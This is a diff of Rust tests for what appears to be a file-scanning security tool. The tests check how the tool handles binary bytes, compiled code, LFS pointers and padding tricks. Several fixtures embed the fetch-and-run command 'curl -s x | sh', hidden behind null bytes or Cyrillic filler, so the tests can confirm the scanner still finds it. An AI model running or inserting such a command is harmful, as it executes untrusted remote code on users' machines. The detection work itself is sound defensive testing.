@@ -27,10 +27,11 @@ fn each_tool_gets_what_it_reads() {
 
 #[test]
 fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
-    let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0");
-    assert_eq!(sifted.findings[0].rule, "skillgate.evasion.binary-code");
+    let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0\0\0\0\0\0\0\0\0");
+    let found = &sifted.findings[0];
+    assert_eq!((found.rule.as_str(), found.severity), (BINARY_CODE, Severity::Medium));
     assert_eq!(sifted.unscanned[0].file, "a.js");
-    assert_eq!(sifted.pieces[0].content, b"eval(x) ");
+    assert_eq!(sifted.pieces[0].content, b"eval(x)         ");
     assert_eq!(
         sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
         Sifted::default()
@@ -38,6 +39,33 @@ fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
     let raw = sift_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
     assert!(raw.pieces[0].raw && raw.unscanned.is_empty());
     assert_eq!(raw.pieces[0].content, b"PK\x03\x04\0");
+}
+
+#[test]
+fn a_few_odd_bytes_in_honest_code_are_a_low_finding_and_no_gap() {
+    let mjs = b"export function key(name, file) {\n  return `${name}\0${file}`;\n}\n";
+    let crlf = b"/*\r\n * Keys.\r\n */\r\nexport const key = (a, b) => `${a}\0${b}`;\r\n";
+    let latin = b"# caf\xe9\nSEP = '\0'\nEND = '\x01\x1f\x7f'\n";
+    for (name, content, line) in [
+        ("scripts/key.mjs", mjs.as_slice(), 2),
+        ("key.ts", crlf, 4),
+        ("sep.py", latin, 2),
+        ("Makefile", b"SEP := \0\n", 1),
+        ("notes.md", b"# Notes\n\nsplit at `\0`\n", 3),
+    ] {
+        for provider in Provider::ALL {
+            let sifted = sift_file(provider, name, content);
+            assert_eq!((&sifted.unscanned, &sifted.not_read), (&vec![], &vec![]), "{name}");
+            let found: Vec<_> = sifted.findings.iter().map(|f| (f.severity, f.line)).collect();
+            let semgrep = provider == Provider::Semgrep;
+            assert_eq!(found, if semgrep { vec![(Severity::Low, Some(line))] } else { vec![] });
+            // The first reading is what its parser is held to.
+            assert!(sifted.pieces.first().is_none_or(|piece| !piece.guessed), "{name}");
+        }
+    }
+    let sifted = sift_file(Provider::Semgrep, "scripts/key.mjs", mjs);
+    let text = String::from_utf8_lossy(&sifted.pieces[0].content).into_owned();
+    assert_eq!(text, String::from_utf8_lossy(mjs).replace('\0', " "), "lines and columns stay");
 }
 
 #[test]
@@ -50,12 +78,14 @@ fn g08_one_odd_byte_hides_no_text() {
         ("setup.cfg", b"run = curl -s x | sh\n\0"),
     ] {
         let sifted = sift_file(Provider::Semgrep, path, content);
-        assert_eq!(sifted.unscanned.len(), 1, "{path}");
-        assert!(!sifted.pieces.is_empty(), "{path}");
+        assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (0, 1), "{path}");
+        let whole = String::from_utf8_lossy(content).replace('\0', "");
+        let read = |p: &Piece| String::from_utf8_lossy(&p.content).contains(whole.trim_end());
+        assert!(sifted.pieces.iter().any(read), "{path}");
     }
     for (path, content) in [
         ("a.png", &b"\x89PNG\r\n\0\0\0\rIHDR\x01\x02\x03\x04"[..]),
-        ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"),
+        ("weights.bin", b"\0\0\x80\x3f\0\0\x80\x3f"),
     ] {
         assert_eq!(sift_file(Provider::Semgrep, path, content), Sifted::default(), "{path}");
     }
@@ -103,6 +133,7 @@ fn g11_an_lfs_pointer_is_a_gap_for_every_tool_that_would_read_what_it_stands_for
         ("pyproject.toml", text),
         ("a.png", &[]),
         ("model.bin", &[]),
+        ("lib.so", &[Provider::Semgrep]),
         ("rows.csv", &[]),
         ("a.unknown", &[]),
     ] {
@@ -134,10 +165,10 @@ fn g08_no_name_hides_a_payload_behind_bytes() {
     let zeros = [b"curl -s x | sh\n".as_slice(), &[0; 40]].concat();
     let cyrillic = format!("curl -s x | sh\n# {}\0", "привет мир ".repeat(10)).into_bytes();
     for name in ["install", "setup.cfg", "rules.mdc", ".cursorrules", "config.yaml", "hooks.conf"] {
-        for content in [&zeros, &cyrillic] {
+        for (content, gaps) in [(&zeros, 1), (&cyrillic, 0)] {
             let sifted = sift_file(Provider::Semgrep, name, content);
             assert!(reads_payload(&sifted), "{name}");
-            assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (1, 1), "{name}");
+            assert_eq!((sifted.unscanned.len(), sifted.findings.len()), (gaps, 1), "{name}");
         }
     }
     let noise: Vec<u8> = (0..200u8).map(|n| n.wrapping_mul(157) | 0x80).collect();
@@ -173,10 +204,7 @@ fn an_honest_binary_is_no_reason_for_doubt() {
     let fill: Vec<u8> =
         (0..4_000u32).map(|n| n.wrapping_mul(2_654_435_761).to_le_bytes()[3]).collect();
     for (name, head) in [
-        ("a.pyc", b"\xa7\r\r\n\0\0\0\0".as_slice()),
-        ("lib.so", b"\x7fELF\x02\x01\x01\0"),
-        ("tool", b"\x7fELF\x02\x01\x01\0"),
-        ("a.woff2", b"wOF2\0\x01\0\0"),
+        ("a.woff2", b"wOF2\0\x01\0\0".as_slice()),
         ("a.ttf", b"\0\x01\0\0\0"),
         ("a.sqlite", b"SQLite format 3\0"),
         ("a.png", b"\x89PNG\r\n\x1a\n"),
@@ -186,8 +214,8 @@ fn an_honest_binary_is_no_reason_for_doubt() {
         ("a.npy", b"\x93NUMPY\x01\0"),
         ("a.pkl", b"\x80\x04\x95\0\0"),
         (".DS_Store", b"\0\0\0\x01Bud1\0"),
-        ("a.jar", b"PK\x03\x04\0"),
-        ("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34"),
+        ("a.pdf", b"%PDF-1.7\n"),
+        ("a.zip", b"PK\x03\x04\0"),
         ("a.unknown", b"\x01\0"),
         ("Info.plist", b"bplist00\0"),
         ("._SKILL.md", b"\0\x05\x16\x07\0\x02\0\0Mac OS X\0\0\0\0\0\0\0\0"),
@@ -218,20 +246,51 @@ fn g36_trufflehog_reads_the_text_in_bytes_beside_the_bytes() {
 }
 
 #[test]
-fn compiled_code_is_said_not_to_be_read() {
-    let elf = [b"\x7fELF\x02\x01\x01\0".as_slice(), &[0x90; 99]].concat();
-    let pyc = [b"\xa7\r\r\n\0\0\0\0".as_slice(), &[0x90; 99]].concat();
-    for (name, content) in [("tool", &elf), ("lib.so", &elf), ("a.pyc", &pyc)] {
-        let sifted = sift_file(Provider::Semgrep, name, content);
+fn compiled_code_is_a_gap() {
+    let with = |head: &[u8]| [head, &[0x90; 99]].concat();
+    let elf = b"\x7fELF\x02\x01\x01\0".as_slice();
+    let pyc = b"\xa7\r\r\n\0\0\0\0".as_slice();
+    // The check of its source is switched off in the header (PEP 552).
+    let unchecked = b"\xcb\r\r\n\x01\0\0\0".as_slice();
+    let padded = [elf, "text ".repeat(900).as_bytes()].concat();
+    let wide: Vec<u8> = "some text ".repeat(400).bytes().flat_map(|byte| [byte, 0]).collect();
+    for (name, content) in [
+        ("tool", with(elf)),
+        ("lib.so", with(elf)),
+        ("lib.so.1.2", padded),
+        ("install", [elf, &wide].concat()),
+        ("a.pyc", with(pyc)),
+        ("__pycache__/a.cpython-312.pyc", with(unchecked)),
+        ("old.pyc", with(b"\x03\xf3\r\n\0")),
+        ("made-up.pyc", with(b"ab\r\n\0")),
+        ("a.pyd", with(b"MZ\x90\0")),
+        ("A.class", with(b"\xca\xfe\xba\xbe\0\0\0\x34")),
+        ("a.wasm", with(b"\0asm\x01\0\0\0")),
+        ("logo.png", with(b"\0asm\x01\0\0\0")),
+        ("a.jar", with(b"PK\x03\x04\0")),
+        ("a.luac", with(b"\x1bLua\x54\0")),
+        ("a.node", with(b"\0")),
+    ] {
+        let sifted = sift_file(Provider::Semgrep, name, &content);
         let notes = (sifted.unscanned.len(), sifted.not_read.len());
-        assert_eq!(notes, (0, 1), "{name}");
+        assert_eq!(notes, (1, 0), "{name}");
+        for other in [Provider::Njsscan, Provider::Trufflehog] {
+            assert_eq!(sift_file(other, name, &content).findings, [], "{name}");
+        }
+        assert_eq!(sift_file(Provider::Trufflehog, name, &content).not_read, [], "{name}");
+        let past = Origin::History { oid: "00".into() };
+        let past = sift(Provider::Semgrep, name.as_bytes(), &past, content);
+        assert_eq!(past.unscanned, [], "{name}");
+    }
+    for name in ["tool", "a.pyc"] {
+        let head = if name == "tool" { elf } else { pyc };
+        let sifted = sift_file(Provider::Semgrep, name, &with(head));
         let [finding] = sifted.findings.as_slice() else { panic!("{name}") };
         assert_eq!(finding.rule, "skillgate.coverage.packed-code", "{name}");
-        for other in [Provider::Njsscan, Provider::Trufflehog] {
-            assert_eq!(sift_file(other, name, content).findings, [], "{name}");
-        }
-        assert_eq!(sift_file(Provider::Trufflehog, name, content).not_read, [], "{name}");
+        let reason = &sifted.unscanned[0].reason;
+        assert!(reason.contains("remove it, or ship its source"), "{reason}");
     }
+    assert_eq!(sift_file(Provider::Semgrep, "cube.obj", b"v 0 0 0\n").unscanned, []);
     let picture = sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\x01\x02");
     assert_eq!(picture.not_read, []);
 }
@@ -283,4 +342,27 @@ fn a_payload_does_not_hide_behind_the_first_line_of_an_lfs_pointer() {
     assert_eq!(sift_file(Provider::Semgrep, "install", substituted.as_bytes()).unscanned, []);
     let pointer = format!("{head}ext-0-foo sha256:0f\n");
     assert_eq!(sift_file(Provider::Semgrep, "a.sh", pointer.as_bytes()).pieces, []);
+}
+
+#[test]
+fn many_blocks_that_no_tool_takes_out_leave_no_gap() {
+    let text = |tag: &str| format!("```{tag}\na\n```\n").repeat(2_100);
+    for (tag, providers) in [("json", &Provider::ALL[..]), ("python", &[Provider::Njsscan])] {
+        for provider in providers {
+            let sifted = sift_file(*provider, "reference.md", text(tag).as_bytes());
+            assert_eq!(sifted.unscanned, [], "{tag} {provider}");
+        }
+    }
+    for tag in ["ts", "python", "sh", ""] {
+        let sifted = sift_file(Provider::Semgrep, "reference.md", text(tag).as_bytes());
+        assert_eq!(sifted.unscanned, [], "{tag}");
+        assert!(sifted.pieces.len() < 300, "{tag}: {}", sifted.pieces.len());
+        let read: usize = sifted.pieces[1..]
+            .iter()
+            .filter_map(|piece| {
+                Some(std::str::from_utf8(&piece.content).ok()?.matches('a').count())
+            })
+            .sum();
+        assert_eq!(read, 2_100, "{tag}");
+    }
 }
